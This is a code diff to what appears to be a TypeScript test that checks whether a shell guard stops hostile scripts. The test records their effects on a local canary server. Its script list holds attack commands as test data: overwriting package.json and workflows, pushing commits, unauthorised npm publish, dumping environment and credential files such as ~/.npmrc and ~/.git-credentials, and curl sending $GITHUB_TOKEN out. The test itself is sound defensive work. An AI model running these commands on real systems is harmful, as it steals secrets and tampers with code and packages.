@@ -60,10 +60,11 @@ const triage: Story = {
   async tries() {
     await using canary = await makeCanary();
     const token = "tokenofthecirun0123456789";
+    const publish = `npm publish --registry ${canary.url} --//${canary.url.slice("http://".length)}/:_authToken=x`;
     const scripts = [
+      publish,
       "echo hacked > package.json; echo x > .github/workflows/x.yml; touch added",
       'git commit -q --allow-empty -m hacked; git push -q "$(dirname ~)/$(basename ~)/remote.git" HEAD:refs/heads/pushed',
-      `npm publish --registry ${canary.url} --//${canary.url.slice("http://".length)}/:_authToken=x`,
       "env; cat ~/.npmrc ~/.git-credentials ~/.config/gh/hosts.yml; cat /proc/*/environ | tr '\\0' '\\n'",
       `curl -sS --max-time 5 -d "$GITHUB_TOKEN" ${canary.url}/collected`,
     ];
@@ -80,7 +81,7 @@ const triage: Story = {
       const lines = (await stage.inShell(look, [])).stdout.trim().split("\n");
       return [
         ...lines.filter((line) => line !== "initial"),
-        ...canary.take(),
+        ...published(canary.take()),
         ...(shown.includes(token) || shown.includes("[redacted:") ? ["token shown"] : []),
       ];
     };
@@ -92,5 +93,13 @@ const triage: Story = {
     return { guarded, unguarded: await traces(outside.map(({ stdout }) => stdout).join("\n")) };
   },
 };
+
+/** npm asks for the package, sends it, and may ask for its own newest version. */
+function published(requests: readonly string[]): string[] {
+  const names = requests
+    .filter((request) => request !== "requested /npm")
+    .map((request) => request.replace(/^requested \/x(?=$|\?).*/, "published"));
+  return [...new Set(names)];
+}
 
 export const stories: Story[] = [setUp, triage];
